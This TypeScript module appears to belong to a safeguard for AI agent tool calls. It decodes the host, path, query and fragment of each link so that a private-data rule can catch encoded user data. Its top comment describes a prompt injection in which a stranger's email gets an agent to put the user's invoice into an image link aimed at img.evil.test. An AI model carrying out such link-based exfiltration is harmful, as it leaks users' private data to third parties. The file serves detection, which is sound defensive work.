import { domainToUnicode } from 'node:url';
import { decodings } from './decodings.js';
import { bridgedLinks, linkPattern, mayHoldLink } from './link-text.js';

/**
 * What a link in a call's arguments carries (wave 3 outside corpus): a stranger's mail asks the
 * agent to put the user's text into a link — `![](https://img.evil.test/p.gif?q=<the invoice,
 * URL-encoded>)` in a note a third party renders, or a base64 blob in a query — and the phrase
 * and code rules (private-data-rule.ts) read arguments as prose with links left out, so the
 * encoded words were never compared. This gives them every part of the link (linkParts) as a
 * reader of the request would get it: percent-decoded by WHATWG URL (`+` is a space in a query),
 * and each part as what it encodes through up to two decodings (decodings.ts: percent-encoding
 * until stable, HTML numeric references, base64/base64url, base32/base32hex/z-base-32, hex,
 * base58) when that is printable text.
 *
 * Only text is added for the private-data rule; destinations are still the links themselves.
 */

// The links values.ts reads (link-text.ts: `https:evil.test/…` without slashes, tabs and line
// breaks inside), up to 4,096 characters.
const LINK = linkPattern(4096);
/** Most links carry nothing; a call's arguments are capped anyway, but bound the work. */
const MAX_LINKS = 50;
const MAX_PARTS = 200;
// A file name's extension after an encoded stem (`/a/GQ4DEOJRGM.png`): the stem is read too.
const EXTENSION = /\.[A-Za-z0-9]{1,5}$/;

/**
 * The parts of a link a server (or its DNS) receives, each as it reads it: userinfo, each host
 * label (and the host as Unicode when it is punycode, RFC 3492), path segments (and a segment
 * without its file extension), query names and values (WHATWG URL's form decoding), and the
 * fragment (and its `a=b&c=d` pairs).
 */
function linkParts(u: URL): string[] {
  const parts: string[] = [];
  const decoded = (s: string) => {
    try {
      return decodeURIComponent(s);
    } catch {
      return s;
    }
  };
  if (u.username) parts.push(decoded(u.username));
  if (u.password) parts.push(decoded(u.password));
  const host = u.hostname;
  const unicodeHost = host.includes('xn--') ? domainToUnicode(host) : host;
  if (unicodeHost !== host && unicodeHost) parts.push(unicodeHost);
  parts.push(...unicodeHost.split('.'));
  for (const seg of u.pathname.split('/'))
    if (seg) {
      const d = decoded(seg);
      parts.push(d);
      if (EXTENSION.test(d)) parts.push(d.replace(EXTENSION, ''));
    }
  for (const [name, value] of u.searchParams) parts.push(name, value);
  if (u.hash.length > 1) {
    const fragment = u.hash.slice(1);
    parts.push(decoded(fragment));
    if (fragment.includes('='))
      for (const [n, v] of new URLSearchParams(fragment)) parts.push(n, v);
  }
  return parts;
}

/**
 * The payloads of the links in `texts` (a call's strings, or one text). The bounds are for all of
 * them together: a call has up to 1,000 strings (values.ts leavesOf), and bounds per string let
 * one call decode 1,000 times as much (link-payload-bounds.test.ts).
 */
export function linkPayloads(texts: string | readonly string[]): string[] {
  const out: string[] = [];
  let n = 0;
  let parts = 0;
  for (const text of typeof texts === 'string' ? [texts] : texts) {
    if (!mayHoldLink(text)) continue;
    const bridged = bridgedLinks(text);
    const links = [...text.matchAll(LINK)].map((m) => m[0]);
    if (bridged !== text) links.push(...[...bridged.matchAll(LINK)].map((m) => m[0]));
    for (const link of links) {
      if (++n > MAX_LINKS) return out;
      let u: URL;
      try {
        u = new URL(link);
      } catch {
        continue;
      }
      for (const p of linkParts(u)) {
        if (++parts > MAX_PARTS) return out;
        // A part as the server reads it; short ones are in the link as written already.
        if (p.length >= 8) out.push(p);
        // And as what it encodes (decodings.ts): base64 of a code, an IBAN percent-encoded twice.
        out.push(...decodings(p));
      }
    }
  }
  return out;
}
